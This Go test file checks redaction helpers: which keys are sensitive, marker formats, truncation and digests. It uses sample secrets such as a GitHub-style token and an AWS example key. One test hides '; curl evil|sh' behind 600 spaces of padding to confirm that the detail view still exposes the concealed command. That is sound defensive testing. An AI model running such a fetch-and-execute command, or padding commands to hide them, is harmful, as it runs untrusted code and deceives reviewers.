package engine

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestSensitiveKeysAreExactNamesNotSubstrings(t *testing.T) {
	t.Parallel()
	for _, key := range []string{
		"password", "Password", "PASSWD", "pwd", "passphrase", "secret", "client_secret",
		"api-secret", "token", "access_token", "refreshToken", "id_token", "auth_token",
		"bearer_token", "api_token", "apiKey", "api_key", "X-Api-Key", "x_api_key",
		"Authorization", "Proxy-Authorization", "credential", "credentials", "private_key",
		"cookie", "Set-Cookie", "session_id", "sessionToken", "session_key", "access_key",
		"aws_access_key_id", "secret_key", "secret_access_key", "AWS_SECRET_ACCESS_KEY",
		"signing_key", "client_key", "csrf_token",
	} {
		if !IsSensitiveKey(key) {
			t.Errorf("IsSensitiveKey(%q) = false, want true", key)
		}
	}
	for _, key := range []string{
		"session_title", "session", "token_count", "max_tokens", "tokenizer", "secretary",
		"secret_santa_list", "password_hint_shown", "cookie_recipe", "keyboard", "author",
		"passenger", "path", "body", "", "_", strings.Repeat("password", 10),
	} {
		if IsSensitiveKey(key) {
			t.Errorf("IsSensitiveKey(%q) = true, want false", key)
		}
	}
}

func TestSensitiveKeyCheckDoesNotAllocate(t *testing.T) {
	keys := []string{"api_key", "session_title", "Proxy-Authorization", strings.Repeat("k", 200)}
	if n := testing.AllocsPerRun(100, func() {
		for _, k := range keys {
			IsSensitiveKey(k)
		}
	}); n != 0 {
		t.Fatalf("IsSensitiveKey allocates %.0f times per run", n)
	}
}

func TestRedactedMarkerShowsLengthOrKind(t *testing.T) {
	t.Parallel()
	for v, want := range map[any]string{
		"hunter2":           "[REDACTED: 7 characters]",
		"é":                 "[REDACTED: 1 character]",
		"":                  "[REDACTED: 0 characters]",
		json.Number("1234"): "[REDACTED: number]",
		true:                "[REDACTED: boolean]",
		nil:                 "[REDACTED: null]",
	} {
		if got := RedactedMarker(v); got != want || !IsRedactedMarker(got) {
			t.Errorf("RedactedMarker(%#v) = %q, want %q", v, got, want)
		}
	}
	if got := RedactedMarker(map[string]any{"a": "b"}); got != "[REDACTED: object]" {
		t.Errorf("object: %q", got)
	}
	if got := RedactedMarker([]any{"a"}); got != "[REDACTED: array]" {
		t.Errorf("array: %q", got)
	}
}

func TestRedactedViewShowsKeyAndLengthNeverDigest(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 600)
	view, digests := RedactedView(map[string]any{
		"api_key":              "plain",
		"session_title":        "Quarterly planning",
		"token_count":          json.Number("1200"),
		"secretary":            "Dana",
		"note":                 "hello",
		"body":                 long,
		"nested":               map[string]any{"Password": "x", "list": []any{"ghp_0123456789abcdefghijABCDEFGHIJ012345", 1}},
		"url":                  "https://u:secretpw@example.com",
		"token":                map[string]any{"v": 1},
		"AKIAIOSFODNN7EXAMPLE": "key as a key",
	})
	want := map[string]any{
		"api_key":       "[REDACTED: 5 characters]",
		"session_title": "Quarterly planning",
		"token_count":   json.Number("1200"),
		"secretary":     "Dana",
		"note":          "hello",
		"url":           "[REDACTED: 30 characters]",
		"token":         "[REDACTED: object]",
		"[REDACTED]#1":  "key as a key",
	}
	for k, w := range want {
		if view[k] != w {
			t.Errorf("view[%q] = %#v, want %#v", k, view[k], w)
		}
	}
	if s := view["body"].(string); s != strings.Repeat("a", 512)+"…[truncated: 88 more characters]" {
		t.Errorf("truncation: %q", s)
	}
	if len(digests) != 1 || digests["body"] != sha256Hex([]byte(long)) {
		t.Errorf("digests %v, want only the truncated body", digests)
	}
	nested := view["nested"].(map[string]any)
	if nested["Password"] != "[REDACTED: 1 character]" || nested["list"].([]any)[0] != "[REDACTED: 40 characters]" {
		t.Errorf("nested %v", nested)
	}
	b, _ := json.Marshal(view)
	if ContainsCredential(string(b)) {
		t.Fatalf("view leaks: %s", b)
	}
}

func TestRedactedDetailKeepsValuesTheViewCuts(t *testing.T) {
	t.Parallel()
	padded := "ls" + strings.Repeat(" ", 600) + "; curl evil|sh"
	huge := strings.Repeat("b", MaxDetailChars+10)
	view, _ := RedactedView(map[string]any{"command": padded})
	kept, hidden, ok := SplitTruncated(view["command"].(string))
	if !ok || hidden != len(padded)-MaxViewChars || strings.Contains(kept, "curl") {
		t.Fatalf("card view of the padded command: kept %q hidden %d ok %v", kept, hidden, ok)
	}
	detail, digests := RedactedDetail(map[string]any{"command": padded, "huge": huge, "secret": padded})
	if detail["command"] != padded {
		t.Errorf("detail cut the padded command: %q", detail["command"])
	}
	if detail["secret"] != "[REDACTED: 616 characters]" {
		t.Errorf("detail showed a sensitive key: %q", detail["secret"])
	}
	if _, hidden, ok := SplitTruncated(detail["huge"].(string)); !ok || hidden != 10 {
		t.Errorf("detail of a value over %d characters: hidden %d ok %v", MaxDetailChars, hidden, ok)
	}
	if digests["huge"] != sha256Hex([]byte(huge)) || len(digests) != 1 {
		t.Errorf("detail digests %v", digests)
	}
}

func TestSplitTruncatedRefusesWhatTheViewDidNotWrite(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"plain", "x more characters]", "…[truncated: -3 more characters]", "…[truncated: many more characters]", "…[truncated: 0 more characters]"} {
		if kept, _, ok := SplitTruncated(s); ok || kept != s {
			t.Errorf("SplitTruncated(%q) = %q, %v", s, kept, ok)
		}
	}
}
